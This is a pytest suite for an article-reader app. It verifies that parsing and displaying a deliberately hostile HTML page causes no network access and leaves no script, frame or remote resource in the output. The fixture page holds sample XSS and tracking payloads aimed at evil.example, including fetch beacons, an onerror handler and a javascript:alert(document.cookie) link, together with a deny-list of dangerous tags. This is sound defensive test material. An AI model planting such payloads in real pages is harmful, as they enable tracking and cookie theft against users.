"""Nothing a page holds is ever executed or fetched: an import and a render run with socket creation blocked,
and the rendered article keeps no script, frame, remote resource or javascript: link."""

from __future__ import annotations

import json
import socket
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from reader import cli, parse_file
from reader.batch import BatchRunner

# A page that tries everything: scripts, frames, remote images, styles and fonts, refresh, javascript: links.
HOSTILE_PAGE = """<!DOCTYPE html>
<html><head><title>Attack page</title>
<base href="http://evil.example/">
<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
<link rel="stylesheet" href="http://evil.example/style.css">
<link rel="preload" href="https://evil.example/font.woff2" as="font">
<style>@import url("http://evil.example/import.css"); body { background: url(http://evil.example/bg.png) }</style>
<script src="http://evil.example/tracker.js"></script>
<script>fetch("http://evil.example/beacon"); document.write("<p>INJECTED BY SCRIPT</p>");</script>
</head><body onload="fetch('http://evil.example/onload')">
<h1>Attack page</h1>
<p>The first paragraph of the story is long enough to be the article body, and it goes on a while.</p>
<p><img src="http://evil.example/pixel.gif" onerror="alert(1)"> The second paragraph has a remote image.</p>
<iframe src="http://evil.example/frame.html"><p>FRAME FALLBACK TEXT</p></iframe>
<object data="http://evil.example/plugin.swf"></object><embed src="http://evil.example/embed.swf">
<video src="http://evil.example/movie.mp4" poster="http://evil.example/poster.jpg"></video>
<p>A <a href="javascript:alert(document.cookie)">scripted link</a> and a
<a href="http://example.com/real">real link</a> sit in the third paragraph of the story text.</p>
<svg><script>alert(2)</script><image href="http://evil.example/svg.png"/></svg>
<noscript><img src="http://evil.example/noscript.gif"></noscript>
<form action="http://evil.example/post"><input value="x"><button>Send</button></form>
</body></html>
"""


class NetworkAttempt(AssertionError):
    pass


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[str]]:
    """Socket creation, connection and name lookup raise and are recorded."""
    attempts: list[str] = []

    def refuse(name: str) -> Any:
        def blocked(*args: Any, **kwargs: Any) -> Any:
            attempts.append(f"{name}{args!r}")
            raise NetworkAttempt(f"network access attempted: {name}")

        return blocked

    monkeypatch.setattr(socket, "socket", refuse("socket.socket"))
    monkeypatch.setattr(socket, "create_connection", refuse("socket.create_connection"))
    monkeypatch.setattr(socket, "getaddrinfo", refuse("socket.getaddrinfo"))
    monkeypatch.setattr(socket, "gethostbyname", refuse("socket.gethostbyname"))
    audited: list[str] = []
    _AUDIT.append(audited)
    try:
        yield attempts
    finally:
        _AUDIT.remove(audited)
    # Lower-level attempts (code holding its own reference to the socket type) show up as audit events.
    assert not audited, audited


_AUDIT: list[list[str]] = []


def _audit(event: str, args: tuple[Any, ...]) -> None:
    if _AUDIT and event.startswith(("socket.", "urllib.", "http.client.")):
        _AUDIT[-1].append(event)


sys.addaudithook(_audit)  # records only while a test's `no_network` fixture is active


def _check_article_is_inert(html: str) -> None:
    lowered = html.lower()
    for bad in ("<script", "<iframe", "<img", "<object", "<embed", "<video", "<link", "<base", "javascript:"):
        assert bad not in lowered, bad
    assert "evil.example" not in lowered
    assert "injected by script" not in lowered
    assert " src=" not in lowered and "url(" not in lowered and "@import" not in lowered


def test_import_through_the_cli_code_path_never_touches_the_network(
    tmp_path: Path, no_network: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    page = tmp_path / "attack.html"
    page.write_text(HOSTILE_PAGE)
    status = cli.main(["extract", str(page), "--jobs", "1"])  # one file, one job: parsed in this process
    assert status == 0
    record = json.loads(capsys.readouterr().out)
    assert "first paragraph of the story" in record["text"]
    assert "second paragraph has a remote image" in record["text"]
    assert "INJECTED BY SCRIPT" not in json.dumps(record)
    assert no_network == []


def test_import_of_a_folder_in_process_never_touches_the_network(tmp_path: Path, no_network: list[str]) -> None:
    for index in range(3):
        (tmp_path / f"attack{index}.html").write_text(HOSTILE_PAGE)
    results = list(BatchRunner(in_process=True).run(sorted(tmp_path.iterdir())))
    assert [r.ok for r in results] == [True, True, True]
    assert no_network == []


def test_render_in_the_reading_pane_never_touches_the_network(
    qtbot: Any, tmp_path: Path, no_network: list[str]
) -> None:
    from PySide6.QtCore import QUrl

    from ui.article_view import ArticleView, render_article_html

    page = tmp_path / "attack.html"
    page.write_text(HOSTILE_PAGE)
    article = parse_file(page)
    html = render_article_html(article)
    _check_article_is_inert(html)

    requested: list[str] = []

    class RecordingView(ArticleView):
        def loadResource(self, type: int, name: QUrl | str) -> object:
            requested.append(name.toString() if isinstance(name, QUrl) else str(name))
            return super().loadResource(type, name)

    view = RecordingView()
    qtbot.addWidget(view)
    view.resize(800, 600)
    view.show()
    view.show_article(article)
    qtbot.waitExposed(view)
    qtbot.wait(50)
    assert "first paragraph of the story" in view.toPlainText()
    assert not [name for name in requested if "evil.example" in name]
    assert no_network == []


def test_the_blocker_really_blocks(no_network: list[str]) -> None:
    """The fixture is not a no-op: a socket attempt is refused and recorded."""
    with pytest.raises(NetworkAttempt):
        socket.create_connection(("example.com", 80))
    assert no_network and no_network[0].startswith("socket.create_connection")
    no_network.clear()
